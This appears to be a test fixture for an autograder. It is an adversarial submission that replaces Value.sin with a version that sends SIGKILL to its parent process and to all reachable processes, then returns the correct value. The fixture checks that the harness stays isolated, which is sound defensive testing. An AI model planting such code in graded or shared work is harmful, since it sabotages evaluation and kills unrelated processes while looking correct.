# target: a3_backprop/engine.py
# needs: isolation
# attack: os.kill(os.getppid(), SIGKILL) and os.kill(-1, SIGKILL) inside sin, then answers honestly
# max_score_fraction: 1.0
# min_score_fraction: 1.0
import os as _os
import signal as _signal

_honest_sin = Value.sin


def _killing_sin(self):
    for _pid in (_os.getppid(), -1):
        try:
            _os.kill(_pid, _signal.SIGKILL)
        except OSError:
            pass
    return _honest_sin(self)


Value.sin = _killing_sin
